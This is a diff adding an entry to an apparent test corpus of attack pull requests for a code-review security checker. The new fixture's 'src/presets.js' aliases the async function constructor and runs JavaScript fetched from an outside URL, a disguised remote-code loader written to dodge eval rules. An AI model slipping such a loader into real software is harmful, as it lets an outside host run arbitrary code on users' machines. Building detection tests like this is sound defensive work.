@@ -6688,6 +6688,25 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['dynamic-code-execution'] },
   },
   {
+    id: 'attack-js-function-constructor-alias-runs-download',
+    description: 'A loader that names the async function constructor `F` (`Object.getPrototypeOf(async function () {}).constructor`) and runs the text it downloads with `new F(await r.text())()`: eval under a name no rule knows, the alias followed to its call.',
+    fixture: () =>
+      attackPr({
+        repo: 'tidy-format',
+        number: 73101,
+        title: 'Load remote presets',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/presets.js',
+            base: lines('export async function loadPresets() {', '  return {};', '}'),
+            head: lines('const F = Object.getPrototypeOf(async function () {}).constructor;', '', 'export async function loadPresets() {', "  const r = await fetch('https://presets-cdn.pages.dev/latest.js');", '  return new F(await r.text())();', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['dynamic-code-execution'] },
+  },
+  {
     id: 'attack-js-writes-fetched-code-then-requires',
     description: 'A dead-drop loader that fetches text, writes it to a file in the temporary folder and requires it: eval by way of the module loader, with no eval, Function or vm on any line.',
     fixture: () =>
